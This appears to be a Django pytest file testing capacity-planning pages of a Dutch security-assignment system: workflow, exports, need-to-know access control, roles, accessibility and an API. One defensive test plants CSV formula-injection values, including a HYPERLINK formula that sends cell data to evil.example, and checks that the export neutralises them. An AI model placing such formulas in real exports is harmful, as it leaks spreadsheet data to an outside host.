"""The capacity pages: the coordinator's flow, clear errors, exports, and need-to-know.

Need-to-know is tested by attack: a unique marker in an assignment reference and a case the
user may not see must not reach them through the page, the exports, the API or the counts.
"""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from weerstand import testing as t
from weerstand.audit.models import AuditRecord
from weerstand.capacity import services
from weerstand.capacity.models import Absence, InformTask, Officer, PlanRun
from weerstand.capacity.tests import builders as b

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
MARKER = "GEHEIMOPDRACHT"


@pytest.fixture
def world() -> dict:
    police = t.org("police", code="pol")
    kmar = t.org("kmar", code="km")
    lcc = t.user("lcc_coordinator")
    owner = t.user("analyst")
    pu, ku = b.unit(police, "dkdb"), b.unit(kmar, "hrb")
    seen = t.case(owner, owner=owner, team=(lcc,))
    # A crown-witness case: its assignment is invisible even to the LCC (not a member).
    hidden = t.case(owner, owner=owner)
    t.restrict(hidden, members=(owner,))
    # A case the LCC is not in the team of: its assignment is visible, the case is not.
    other = t.case(owner, owner=owner, codename="WERKNAAMANDERS")
    b.officer(pu, "personal_protection")
    b.officer(ku, "personal_protection")
    a_seen = b.assignment(seen, police, officers=2, priority=20, resistance=4, mixed=True)
    a_hidden = b.assignment(hidden, police, officers=1, priority=3, resistance=1)
    a_other = b.assignment(other, police, officers=1, priority=2, resistance=1)
    from weerstand.decisions.models import SecurityAssignment

    SecurityAssignment.objects.filter(pk=a_hidden.pk).update(reference=f"BO-{MARKER}")
    return {
        "police": police,
        "kmar": kmar,
        "lcc": lcc,
        "owner": owner,
        "pu": pu,
        "ku": ku,
        "seen": seen,
        "hidden": hidden,
        "a_seen": a_seen,
        "a_hidden": a_hidden,
        "other": other,
        "a_other": a_other,
    }


def test_coordinator_plans_sees_shortage_confirms_and_tasks_follow(client, world) -> None:
    t.login(client, world["lcc"])
    page = client.get(reverse("capacity:overview"))
    assert page.status_code == 200
    assert "Plan berekenen" in page.content.decode()
    response = client.post(
        reverse("capacity:plan"), {"start": TODAY.isoformat(), "days": 2, "time_limit": 5}
    )
    assert response.status_code == 302
    run = PlanRun.objects.get()
    page = client.get(response.url).content.decode()
    assert "Tekorten en verdringing" in page
    assert "Dekking: bemande / benodigde diensten" in page
    assert world["a_seen"].reference in page
    # The hidden assignment's shortage is counted, never described.
    assert MARKER not in page
    assert world["hidden"].reference not in page
    assert "buiten uw inzage" in page
    # Visible assignment of a case outside the LCC's team: reference yes, case no.
    assert world["a_other"].reference in page
    assert world["other"].reference not in page
    assert "WERKNAAMANDERS" not in page
    assert world["other"].protectee.last_name not in page
    # Confirmation needs a reason.
    refused = client.post(reverse("capacity:confirm", args=[run.pk]), {"reason": ""})
    assert refused.status_code == 400
    assert not InformTask.objects.exists()
    ok = client.post(
        reverse("capacity:confirm", args=[run.pk]),
        {"reason": "Hoogste weerstand gaat voor, besproken met politie en KMar."},
    )
    assert ok.status_code == 302
    page = client.get(ok.url).content.decode()
    assert "Bevestigd door" in page
    # Tasks for both short cases; the LCC's page lists only the one of a case it may view
    # (none here: the seen case was fully staffed).
    assert InformTask.objects.filter(run=run).count() == 2
    assert MARKER not in page and world["hidden"].reference not in page


def test_plan_form_errors_are_shown_and_nothing_is_stored(client, world) -> None:
    t.login(client, world["lcc"])
    response = client.post(
        reverse("capacity:plan"), {"start": TODAY.isoformat(), "days": 60, "time_limit": 5}
    )
    assert response.status_code == 400
    assert "28" in response.content.decode()
    assert not PlanRun.objects.exists()


def test_no_officers_message_on_the_page(client, world) -> None:
    Officer.objects.all().update(active=False)
    t.login(client, world["lcc"])
    response = client.post(
        reverse("capacity:plan"), {"start": TODAY.isoformat(), "days": 2, "time_limit": 5}
    )
    assert response.status_code == 400
    assert "geen inzetbare medewerkers" in response.content.decode()


def test_exports_follow_the_policy_and_are_audited(client, world) -> None:
    run = services.plan(world["lcc"], TODAY, 2, 5)
    t.login(client, world["lcc"])
    csv_body = client.get(reverse("capacity:export-csv", args=[run.pk])).content.decode()
    assert world["a_seen"].reference in csv_body
    assert MARKER not in csv_body
    assert world["hidden"].reference not in csv_body
    assert world["other"].reference not in csv_body
    pdf = client.get(reverse("capacity:export-pdf", args=[run.pk]))
    assert pdf["Content-Type"] == "application/pdf"
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages)
    assert world["a_seen"].reference in text
    assert MARKER not in text
    assert AuditRecord.objects.filter(action="export", object_type="capacity.planrun").count() == 2


def test_unit_planner_sees_own_organisation_only(client, world) -> None:
    run = services.plan(world["lcc"], TODAY, 2, 5)
    planner = t.user("unit_planner", organisation=world["kmar"])
    t.login(client, planner)
    page = client.get(reverse("capacity:run", args=[run.pk])).content.decode()
    # The KMar planner is in no case team: no assignments, no shortages, no other units.
    assert world["a_seen"].reference not in page
    assert MARKER not in page
    assert "buiten uw inzage" not in page
    assert world["pu"].name not in page
    assert "Plan berekenen" not in page
    officers = client.get(reverse("capacity:officers")).content.decode()
    police_officer = Officer.objects.get(unit=world["pu"])
    assert police_officer.badge not in officers
    assert client.get(reverse("capacity:officer", args=[police_officer.pk])).status_code == 404
    # Not allowed to plan: refused by the service, nothing stored.
    client.post(reverse("capacity:plan"), {"start": TODAY.isoformat(), "days": 1, "time_limit": 5})
    assert PlanRun.objects.count() == 1


def test_advisory_body_has_no_capacity_pages(client, world) -> None:
    u = t.user("advisory_body")
    t.login(client, u)
    assert client.get(reverse("capacity:overview")).status_code == 404
    assert client.get(reverse("capacity:officers")).status_code == 404


def test_officer_and_leave_are_recorded_through_the_page(client, world) -> None:
    planner = t.user("unit_planner", organisation=world["police"])
    t.login(client, planner)
    response = client.post(
        reverse("capacity:officer-create"),
        {
            "unit": world["pu"].pk,
            "first_name": "Sanne",
            "last_name": "Dekker",
            "badge": "P-777",
            "qualifications": ["personal_protection", "firearms"],
            "contract_hours": 36,
            "active": "on",
            "shift_wish": "no_nights",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    officer = Officer.objects.get(badge="P-777")
    response = client.post(
        reverse("capacity:officer", args=[officer.pk]),
        {
            "form": "absence",
            "kind": "training",
            "starts_on": TODAY.isoformat(),
            "ends_on": (TODAY + timedelta(days=1)).isoformat(),
            "note": "Schietvaardigheid",
        },
    )
    assert response.status_code == 302
    assert Absence.objects.filter(officer=officer, kind="training").exists()
    bad = client.post(
        reverse("capacity:officer", args=[officer.pk]),
        {
            "form": "absence",
            "kind": "leave",
            "starts_on": TODAY.isoformat(),
            "ends_on": (TODAY - timedelta(days=3)).isoformat(),
        },
    )
    assert bad.status_code == 400
    assert "einddatum" in bad.content.decode()


def test_task_panel_on_the_owners_start_page(client, world) -> None:
    run = services.plan(world["lcc"], TODAY, 2, 5)
    services.confirm_prioritisation(world["lcc"], run.pk, "Besproken in het LCC-overleg.")
    t.login(client, world["owner"])
    home = client.get(reverse("core:home")).content.decode()
    assert "Beschermde personen informeren" in home
    task = InformTask.objects.filter(case=world["other"]).get()
    response = client.post(
        reverse("capacity:task-done", args=[task.pk]),
        {"note": "Telefonisch geïnformeerd.", "next": "/"},
    )
    assert response.status_code == 302
    task.refresh_from_db()
    assert task.status == "done"
    # The coordinator is not the assignee and cannot complete it.
    other = InformTask.objects.create(
        case=world["seen"], assignee=world["owner"], run=run, summary="x"
    )
    t.login(client, world["lcc"])
    client.post(reverse("capacity:task-done", args=[other.pk]), {"note": "Niet mijn taak."})
    other.refresh_from_db()
    assert other.status == "open"


def test_pages_pass_the_structural_accessibility_checks(client, world) -> None:
    """One h1, landmarks, labels, unique ids, th scope (the browser test runs axe on top)."""
    from weerstand.core.tests.test_views_a11y import check

    run = services.plan(world["lcc"], TODAY, 2, 5)
    t.login(client, world["lcc"])
    officer = Officer.objects.filter(unit=world["pu"]).first()
    assert officer is not None
    for url in (
        reverse("capacity:overview"),
        reverse("capacity:run", args=[run.pk]),
        reverse("capacity:officers"),
        reverse("capacity:officer-create"),
        reverse("capacity:officer", args=[officer.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert check(response.content.decode()) == [], url
    services.confirm_prioritisation(world["lcc"], run.pk, "Besproken in het LCC-overleg.")
    t.login(client, world["owner"])
    home = client.get(reverse("core:home")).content.decode()
    assert "Beschermde personen informeren" in home
    problems = [p for p in check(home) if "herijking" not in p]  # another app's panel
    assert problems == []


def test_inspector_reads_but_changes_nothing(client, world) -> None:
    run = services.plan(world["lcc"], TODAY, 2, 5)
    inspector = t.user("inspector")
    t.login(client, inspector)
    page = client.get(reverse("capacity:run", args=[run.pk]))
    assert page.status_code == 200
    body = page.content.decode()
    assert "Prioritering bevestigen" not in body and "Plan publiceren" not in body
    refused = client.post(reverse("capacity:confirm", args=[run.pk]), {"reason": "Mag ik niet."})
    assert refused.status_code == 400
    assert not InformTask.objects.exists()
    assert AuditRecord.objects.filter(
        actor_id=inspector.pk, action="list", object_type="capacity.planrun"
    ).exists()


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_the_csv_export_carries_no_formula(client, world) -> None:
    """Unit names and badges are typed by people; a spreadsheet must read them as text."""
    import csv

    world["pu"].name = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
    world["pu"].save()
    world["ku"].name = "+31 70 123 4567"
    world["ku"].save()
    Officer.objects.filter(unit=world["pu"]).update(badge="@SUM(1)")
    Officer.objects.filter(unit=world["ku"]).update(badge="-2+3")
    run = services.plan(world["lcc"], TODAY, 2, 5)
    t.login(client, world["lcc"])
    body = client.get(reverse("capacity:export-csv", args=[run.pk])).content.decode()
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    plan_rows = [r for r in rows if r[0] == "plan"]
    assert plan_rows, "the plan staffs the visible assignment"
    cells = {cell for row in rows for cell in row}
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert {"'@SUM(1)", '\'=HYPERLINK("https://evil.example/?"&A1;"klik")'} <= cells


# --------------------------------------------------------------------------- the one-screen layout


def _section(html: str, heading_id: str) -> str:
    """The HTML of the section a heading id opens, up to its end."""
    start = html.index(f'id="{heading_id}"')
    return html[start : html.index("</section>", start)]


def _details(html: str, summary: str) -> list[str]:
    """The bodies of every <details> whose summary is `summary`."""
    bodies, at = [], 0
    while (start := html.find("<details", at)) != -1:
        end = html.index("</details>", start)
        body = html[start:end]
        if f"<summary>{summary}</summary>" in body:
            bodies.append(body)
        at = end
    return bodies


def test_summary_then_heat_map_then_grouped_shortages_with_the_confirmation(client, world) -> None:
    run = services.plan(world["lcc"], TODAY, 2, 5)
    t.login(client, world["lcc"])
    html = client.get(reverse("capacity:run", args=[run.pk])).content.decode()
    order = [html.index(f'id="{h}"') for h in ("samenvatting-kop", "heat-kop", "tekort-kop")]
    assert order == sorted(order)
    # The plan form and the long assignment list come after the shortages.
    assert html.index('id="tekort-kop"') < html.index('id="plannen-kop"')
    assert html.index('id="tekort-kop"') < html.index('id="beveiligingen-kop"')
    # Shortages per assignment with the days as a range, not a row per day and shift.
    shortages = _section(html, "tekort-kop")
    assert shortages.count(f'<th scope="row">{world["a_other"].reference}') == 1
    assert "agent tekort" in shortages or "agenten tekort" in shortages
    # The confirmation sits in the shortages' section, right after them.
    assert 'id="form-confirm"' in shortages and "Prioritering bevestigen" in shortages
    summary = _section(html, "samenvatting-kop")
    assert "bemand" in summary and "opdracht met tekort" in summary
    assert "Prioritering nog niet bevestigd" in summary


def test_units_over_100_percent_are_marked_in_words(client, world) -> None:
    # Both officers work the mixed assignment each day: 8 hours a day on 36 a week.
    run = services.plan(world["lcc"], TODAY, 2, 5)
    t.login(client, world["lcc"])
    html = client.get(reverse("capacity:run", args=[run.pk])).content.decode()
    summary = _section(html, "samenvatting-kop")
    assert f"{world['pu'].name} " in summary and "% — overbelast" in summary
    heat = _section(html, "heat-kop")
    assert "<table" in heat and 'class="level-over"' in heat
    assert "— overbelast" in heat
    assert '<span class="visually-hidden">overbelast</span>' in heat


def test_solver_internals_and_the_time_limit_are_behind_the_details(client, world) -> None:
    run = services.plan(world["lcc"], TODAY, 2, 5)
    t.login(client, world["lcc"])
    html = client.get(reverse("capacity:run", args=[run.pk])).content.decode()
    details = _details(html, "Details voor planners/specialisten")
    assert len(details) == 2
    solver, plan_form = details
    for word in (
        "Doelfunctie / beste grens / gat",
        "Rekentijd",
        "Status van de planner",
        "Bewezen bovengrens dekking",
    ):
        assert word in solver
        assert html.count(word) == 1, word
    assert run.covered_upper_bound is not None
    assert f"{run.covered_upper_bound} van {run.required_total} diensten" in solver
    assert 'name="time_limit"' in plan_form and html.count('name="time_limit"') == 1
    # A wrong time limit opens the details, so the error is not hidden.
    bad = client.post(
        reverse("capacity:plan"), {"start": TODAY.isoformat(), "days": 2, "time_limit": 0}
    )
    assert bad.status_code == 400
    (form_details,) = [
        d
        for d in _details(bad.content.decode(), "Details voor planners/specialisten")
        if "time_limit" in d
    ]
    assert form_details.startswith('<details class="cap-details" open')


def test_shortages_and_assignments_are_paginated_and_filtered(client, world, monkeypatch) -> None:
    from weerstand.capacity import views

    monkeypatch.setattr(views, "SHORTAGE_PAGE_SIZE", 1)
    monkeypatch.setattr(views, "ASSIGNMENT_PAGE_SIZE", 1)
    run = services.plan(world["lcc"], TODAY, 2, 5)
    t.login(client, world["lcc"])
    url = reverse("capacity:run", args=[run.pk])
    html = client.get(url).content.decode()
    listing = _section(html, "beveiligingen-kop")
    # The short assignment first; two visible assignments, one a page.
    assert world["a_other"].reference in listing and world["a_seen"].reference not in listing
    assert 'aria-label="Paginering opdrachten"' in listing
    assert 'aria-current="page"' in listing
    page2 = _section(client.get(url, {"pagina": 2}).content.decode(), "beveiligingen-kop")
    assert world["a_seen"].reference in page2 and world["a_other"].reference not in page2
    only_short = _section(client.get(url, {"toon": "tekort"}).content.decode(), "beveiligingen-kop")
    assert world["a_other"].reference in only_short
    assert world["a_seen"].reference not in only_short
    assert "Paginering opdrachten" not in only_short
    by_ref = client.get(url, {"kenmerk": world["a_seen"].reference}).content.decode()
    assert world["a_seen"].reference in _section(by_ref, "beveiligingen-kop")
    # One visible short assignment: one page of shortages, no page links.
    assert "Paginering tekorten" not in _section(html, "tekort-kop")


def test_the_api_lists_the_same_grouped_ranges_without_hidden_ones(world) -> None:
    """The page's grouping, read-only under /shortage-ranges; the per-shift list stays."""
    run = services.plan(world["lcc"], TODAY, 2, 5)
    api = t.api_client(world["lcc"])
    body = api.get(f"/api/v1/plan-runs/{run.pk}/shortage-ranges").json()
    assert body["count"] == 1
    (group,) = body["results"]
    assert group["assignmentReference"] == world["a_other"].reference
    assert group["case"] == ""  # the LCC is not in that case's team
    assert group["ranges"] and {"start", "end", "days", "shift", "missing", "text"} <= set(
        group["ranges"][0]
    )
    assert group["shifts"] == sum(r["days"] for r in group["ranges"])
    assert MARKER not in str(body) and world["hidden"].reference not in str(body)
    assert api.get(f"/api/v1/plan-runs/{run.pk}/shortage-ranges?x=1").status_code == 400
    flat = api.get(f"/api/v1/plan-runs/{run.pk}/shortages").json()
    assert flat["count"] == group["shifts"]


def test_summary_says_what_is_at_most_achievable_when_not_everything_is(client, world) -> None:
    run = services.plan(world["lcc"], TODAY, 2, 5)
    t.login(client, world["lcc"])
    url = reverse("capacity:run", args=[run.pk])
    # the bound the solve stored is a real one: never below what the plan staffs
    assert run.covered_upper_bound is not None
    assert run.covered_total <= run.covered_upper_bound <= run.required_total
    summary = _section(client.get(url).content.decode(), "samenvatting-kop")
    assert ("maximaal haalbaar" in summary) == (run.covered_upper_bound < run.required_total)
    # A bound below what is required is news for the coordinator; one at 100 % is not.
    PlanRun.objects.filter(pk=run.pk).update(covered_upper_bound=run.required_total - 1)
    summary = _section(client.get(url).content.decode(), "samenvatting-kop")
    percent = 100 * (run.required_total - 1) // run.required_total
    assert f"maximaal haalbaar: {percent} % ({run.required_total - 1} diensten)" in summary
    PlanRun.objects.filter(pk=run.pk).update(covered_upper_bound=run.required_total)
    summary = _section(client.get(url).content.decode(), "samenvatting-kop")
    assert "maximaal haalbaar" not in summary
    PlanRun.objects.filter(pk=run.pk).update(covered_upper_bound=None)
    details = _details(client.get(url).content.decode(), "Details voor planners/specialisten")
    assert "Bewezen bovengrens dekking</dt><dd>\u2013</dd>" in details[0]
